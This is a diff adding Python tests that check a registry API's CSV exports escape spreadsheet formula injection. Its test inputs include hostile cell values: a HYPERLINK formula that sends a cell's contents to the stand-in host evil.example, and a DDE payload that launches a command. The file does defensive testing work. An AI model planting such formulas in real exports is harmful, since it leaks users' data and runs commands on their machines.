@@ -175,3 +175,41 @@ def test_every_endpoint_answers_csv(api):
         assert response["Content-Disposition"].startswith("attachment")
         header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
         assert header[0] == first_column and rows, path
+
+
+@pytest.mark.parametrize(
+    "hostile", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+)
+def test_csv_cells_from_reported_text_never_start_a_formula(api, hostile):
+    """OWASP's rule: text that a client reported (here the skill and model names) is prefixed with
+    an apostrophe when it begins with = + - @ tab or CR; our own numbers stay numbers."""
+    record(api, hostile, 1, 1, 2, model=hostile)
+    for path in (
+        "/api/v1/analytics/skills?by_version=true",
+        "/api/v1/analytics/skills?by=model",
+        "/api/v1/analytics/failing?min_n=1",
+    ):
+        response = api.get(path, HTTP_ACCEPT="text/csv")
+        assert response.status_code == 200, path
+        header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
+        cells = [cell for row in rows for cell in row]
+        assert "'" + hostile in cells, path
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), (path, cells)
+        assert not any(cell.startswith("-") and not _is_number(cell) for cell in cells), (path, cells)
+
+
+@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "\n=1+1"])
+def test_csv_cells_starting_with_a_control_character_are_text_too(text):
+    """The usage API strips such names before they are stored; the renderer does not rely on it."""
+    from registry.api.usage import _spreadsheet_cell
+
+    assert _spreadsheet_cell(text) == "'" + text
+    assert _spreadsheet_cell(-0.5) == -0.5 and _spreadsheet_cell(None) == ""
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
